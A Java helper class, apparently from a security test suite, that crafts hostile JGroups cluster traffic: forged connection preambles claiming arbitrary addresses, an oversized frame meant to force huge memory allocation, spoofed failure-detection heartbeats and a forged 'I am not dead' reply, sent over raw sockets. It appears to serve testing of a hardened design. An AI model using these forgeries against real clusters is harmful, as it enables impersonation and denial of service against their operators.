package io.distribute.security;

import org.jgroups.Address;
import org.jgroups.BytesMessage;
import org.jgroups.EmptyMessage;
import org.jgroups.Header;
import org.jgroups.Message;
import org.jgroups.Version;
import org.jgroups.conf.ClassConfigurator;
import org.jgroups.protocols.FD_ALL3;
import org.jgroups.protocols.FailureDetection;
import org.jgroups.protocols.TCP;
import org.jgroups.protocols.TpHeader;
import org.jgroups.protocols.VERIFY_SUSPECT2;
import org.jgroups.stack.IpAddress;
import org.jgroups.util.ByteArrayDataOutputStream;
import org.jgroups.util.Util;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.lang.reflect.Constructor;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.util.Arrays;

/**
 * What a cookie-less attacker can put on the wire with JGroups' own classes: the connection preamble JGroups' TCP
 * transport sends first (claiming any address), length-prefixed message frames, and the messages the old design
 * trusted. It also reads what a victim sends back, to count the bytes.
 */
final class Wire {

    private Wire() {
    }

    /** JGroups' TCP connection preamble: cookie "bela", version, and the address the connection claims to be from. */
    static byte[] preamble(IpAddress claimed) {
        try {
            ByteArrayDataOutputStream os = new ByteArrayDataOutputStream(64);
            os.write(new byte[] {'b', 'e', 'l', 'a'});
            os.writeShort(Version.version);
            os.writeShort(claimed.serializedSize());
            claimed.writeTo(os);
            return Arrays.copyOf(os.buffer(), os.position());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One message as TCP frames it: int length, then version, flags and the message. */
    static byte[] frame(Message m, String clusterName) {
        m.putHeader(ClassConfigurator.getProtocolId(TCP.class), new TpHeader(clusterName));
        try {
            ByteArrayDataOutputStream body = new ByteArrayDataOutputStream(128);
            Util.writeMessage(m, body, m.getDest() == null);
            ByteArrayDataOutputStream out = new ByteArrayDataOutputStream(body.position() + 4);
            out.writeInt(body.position());
            out.write(body.buffer(), 0, body.position());
            return Arrays.copyOf(out.buffer(), out.position());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A frame of {@code frameBytes} (about 34) whose message carries a byte payload claiming {@code claimed} bytes:
     * a reader that trusts the inner length allocates it before reading one payload byte.
     */
    static byte[] oversizedFrame(Address src, int claimed, String clusterName) {
        byte[] f = frame(new BytesMessage(null, new byte[0]).setSrc(src), clusterName);
        // The payload comes last: its length is the frame's last int (0 here); make it claim `claimed` bytes.
        int at = f.length - 4;
        f[at] = (byte) (claimed >>> 24);
        f[at + 1] = (byte) (claimed >>> 16);
        f[at + 2] = (byte) (claimed >>> 8);
        f[at + 3] = (byte) claimed;
        return f;
    }

    /** An FD_ALL3 heartbeat as {@code from} multicasts it. */
    static Message heartbeat(Address from) {
        return new EmptyMessage(null).setSrc(from).putHeader(ClassConfigurator.getProtocolId(FD_ALL3.class),
                new FailureDetection.HeartbeatHeader());
    }

    /** VERIFY_SUSPECT2's "I am not dead" answer, claiming to come from {@code suspect}. */
    static Message iAmNotDead(Address suspect, Address to) {
        try {
            Constructor<VERIFY_SUSPECT2.VerifyHeader> c = VERIFY_SUSPECT2.VerifyHeader.class
                    .getDeclaredConstructor(short.class, Address.class);
            c.setAccessible(true);
            Header h = c.newInstance((short) 2 /* I_AM_NOT_DEAD */, suspect);
            return new EmptyMessage(to).setSrc(suspect).putHeader(ClassConfigurator.getProtocolId(VERIFY_SUSPECT2.class), h);
        } catch (ReflectiveOperationException e) {
            throw new AssertionError(e);
        }
    }

    static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }

    /** Opens a plain TCP connection (optionally from {@code from}) and writes {@code bytes}; null if refused. */
    static Socket send(InetSocketAddress from, InetSocketAddress to, byte[] bytes) {
        Socket s = new Socket();
        try {
            if (from != null) {
                s.bind(from);
            }
            s.connect(to, 500);
            if (bytes.length > 0) {
                s.getOutputStream().write(bytes);
                s.getOutputStream().flush();
            }
            return s;
        } catch (IOException e) {
            closeQuietly(s);
            return null;
        }
    }

    /** Reads until EOF, reset or {@code timeoutMillis} of silence; returns every byte the peer sent. */
    static byte[] drain(Socket s, int timeoutMillis) {
        ByteArrayDataOutputStream got = new ByteArrayDataOutputStream(64);
        try {
            s.setSoTimeout(timeoutMillis);
            InputStream in = s.getInputStream();
            byte[] buf = new byte[4096];
            for (int n; (n = in.read(buf)) >= 0; ) {
                got.write(buf, 0, n);
            }
        } catch (SocketTimeoutException e) {
            // silence: what came so far is all
        } catch (IOException e) {
            // reset: what came so far is all
        }
        return Arrays.copyOf(got.buffer(), got.position());
    }

    static void closeQuietly(AutoCloseable c) {
        if (c != null) {
            try {
                c.close();
            } catch (Exception e) {
                // nothing to do
            }
        }
    }
}
